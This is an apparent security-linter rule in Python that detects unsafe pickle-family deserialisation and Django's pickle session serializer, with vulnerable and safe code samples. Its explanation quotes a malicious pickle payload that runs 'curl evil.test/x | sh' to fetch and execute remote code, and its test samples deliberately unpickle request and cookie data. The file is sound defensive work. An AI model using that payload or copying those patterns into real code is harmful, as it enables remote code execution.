"""TG114: pickle-family deserialisation of data that may come from outside the program."""

from __future__ import annotations

import ast

from tabguard.engine.rule import Invalid, Rule, Valid
from tabguard.rules.defaults._common import is_settings_path, settings_written, string_value
from tabguard.rules.injection import last_names
from tabguard.rules.injection._strings import is_static, raised, unconfirmed

_PICKLE_MODULES = ("pickle", "cPickle", "_pickle", "dill", "cloudpickle", "marshal")
_LOADERS = {
    **{f"{m}.{f}": m for m in _PICKLE_MODULES for f in ("load", "loads", "Unpickler")},
    "shelve.open": "shelve",
    "jsonpickle.decode": "jsonpickle",
    "jsonpickle.unpickler.decode": "jsonpickle",
    "pandas.read_pickle": "pandas",
    "joblib.load": "joblib",
    "keras.models.load_model": "keras",
}
# Django's pickling session serializer: each request's session is unpickled, and with the
# signed-cookie backend the bytes come from the client (signed with SECRET_KEY, so a leaked key runs
# code). Removed in Django 5.0.
_PICKLE_SESSIONS = "django.contrib.sessions.serializers.PickleSerializer"


class UnsafeDeserialization(Rule):
    id = "TG114"
    name = "unsafe-deserialization"
    severity = "medium"
    confidence = "high"
    lowers_confidence_without_taint = True
    raises_when_tainted = True
    cwe = (502,)
    quiet_in_tests = True
    owasp = "A08:2025"
    message = "`{callee}` deserialises {what}: loading a crafted payload runs code"
    placeholders = {"callee": "pickle.loads", "what": "data from outside the program", "module": "pickle"}
    aliases = ("B301", "B302", "B403", "S301", "S302", "S403")
    call_names = last_names(_LOADERS)
    what = (
        "`{callee}` rebuilds objects from {what}. The {module} format can name any importable callable "
        "to call while loading."
    )
    why = (
        'A pickle whose `__reduce__` returns `(os.system, ("curl evil.test/x | sh",))` runs that command '
        "the moment it is loaded, before any type check. Cookies, cache entries, uploaded model files, "
        "message-queue payloads and files in shared buckets are all ways for such bytes to arrive."
    )
    how = (
        "Exchange data as JSON (or another data-only format) and validate it; when pickle is unavoidable, "
        "load only bytes you produced and authenticated (an HMAC checked with `hmac.compare_digest` "
        "before loading). Django sessions: keep the default `JSONSerializer`."
    )
    example = "payload = json.loads(body)\nsettings = Settings.model_validate(payload)"
    references = (
        "https://cwe.mitre.org/data/definitions/502.html",
        "https://docs.python.org/3/library/pickle.html",
        "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    )
    VALID = (
        "import json\ndef f(body):\n    return json.loads(body)\n",
        # test code (engine/testcode.py): a test loads its own fixtures
        Valid(
            'import pickle\ndef load_fixture(path):\n    with open(path, "rb") as fh:\n        return pickle.load(fh)\n',
            path="tests/helpers.py",
        ),
        "import pickle\ndef f(obj):\n    return pickle.dumps(obj)\n",
        'import pickle\nDEFAULTS = pickle.loads(b"\\x80\\x04N.")\n',
        'import pickle\nVOCAB = pickle.load(open("assets/vocab.pkl", "rb"))\n',
        Valid('SESSION_SERIALIZER = "django.contrib.sessions.serializers.JSONSerializer"\n', path="portal/settings.py"),
        # The program's own data: a deep copy, and a cache that stores and loads its entries.
        "import pickle\ndef clone(obj):\n    return pickle.loads(pickle.dumps(obj))\n",
        'import pickle, zlib\nclass FileCache:\n    def set(self, path, value):\n        with open(path, "wb") as f:\n'
        "            f.write(zlib.compress(pickle.dumps(value)))\n    def get(self, path):\n"
        '        with open(path, "rb") as f:\n            return pickle.loads(zlib.decompress(f.read()))\n',
    )
    INVALID = (
        Invalid("import pickle\nfrom flask import request\ndef f():\n    return pickle.loads(request.data)\n"),
        Invalid(
            'import pickle\ndef load_cache(path):\n    with open(path, "rb") as fh:\n        return pickle.load(fh)\n'
        ),
        Invalid("import jsonpickle\ndef f(s):\n    return jsonpickle.decode(s)\n"),
        # The body as a request method reads it: user input, not just a non-constant value.
        Invalid(
            "import jsonpickle\nfrom flask import request\ndef restore():\n"
            "    return jsonpickle.decode(request.get_data(as_text=True))\n",
            message="user input (request.get_data())",
        ),
        # Storing with pickle does not make a request's bytes the program's own.
        Invalid(
            "import pickle\nfrom flask import request\nclass Sessions:\n    def save(self, s):\n        return pickle.dumps(s)\n"
            '    def load(self):\n        return pickle.loads(request.cookies["s"])\n'
        ),
        Invalid(
            'import base64, dill\ndef f(request):\n    return dill.loads(base64.b64decode(request.COOKIES["state"]))\n'
        ),
        Invalid(
            'SESSION_ENGINE = "django.contrib.sessions.backends.signed_cookies"\n'
            'SESSION_SERIALIZER = "django.contrib.sessions.serializers.PickleSerializer"\n',
            path="portal/settings.py",
            message="every session",
        ),
    )

    def visit_Assign(self, node: ast.Assign, ctx) -> None:
        """`SESSION_SERIALIZER = "...PickleSerializer"` in a Django settings module."""
        if not is_settings_path(ctx.path):
            return
        for setting in settings_written(node, ctx):
            if setting.key == "SESSION_SERIALIZER" and string_value(setting.value) == _PICKLE_SESSIONS:
                details = {"callee": "PickleSerializer", "what": "every session", "module": "pickle"}
                ctx.report(self, setting.value, details=details, severity="high")

    def visit_Call(self, node: ast.Call, ctx) -> None:
        if isinstance(node.func, ast.Call):
            return  # `pickle.loads(blob)(x)` calls what was loaded: the load is the inner call
        callee = ctx.call_name(node) or ""
        module = _LOADERS.get(callee)
        if module is None or not node.args:
            return
        data = node.args[0]
        if is_static(data, ctx) or self._bundled_file(data, ctx):
            return
        source = ctx.taint(data)
        if source is None and _round_trip(node, module, ctx):
            return
        what = f"user input ({source.label})" if source else "data from outside the program"
        ctx.report(
            self,
            data,
            details={"callee": callee, "what": what, "module": module},
            source=source,
            severity=raised(self, source),
            confidence=unconfirmed(self, source),
        )

    @staticmethod
    def _bundled_file(data: ast.expr, ctx) -> bool:
        """`open("model/vocab.pkl", "rb")`: a file shipped with the program, named by a constant."""
        return (
            isinstance(data, ast.Call)
            and ctx.call_name(data) in ("open", "io.open")
            and bool(data.args)
            and is_static(data.args[0], ctx)
        )


def _round_trip(node: ast.Call, module: str, ctx) -> bool:
    """The same top-level function or class also pickles with `module` (`pickle.loads(pickle.dumps(x))`,
    a cache backend's `set` and `get`): it loads what it stored itself. Input that the taint
    tracker sees arriving from outside is still reported."""
    top, parent = node, ctx.parent(node)
    while parent is not None and not isinstance(parent, ast.Module):
        top, parent = parent, ctx.parent(parent)
    dumpers = {f"{module}.dump", f"{module}.dumps", f"{module}.Pickler"}
    return any(isinstance(n, ast.Call) and ctx.call_name(n) in dumpers for n in ast.walk(top))
